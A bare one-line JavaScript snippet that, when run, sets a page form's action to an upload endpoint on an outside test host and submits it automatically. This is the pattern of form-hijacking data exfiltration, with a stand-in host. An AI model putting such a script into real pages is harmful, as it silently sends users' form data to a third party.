(()=>{var t="https://b45.acme.test";$("#f").attr("action",t+"/upload").submit();})();
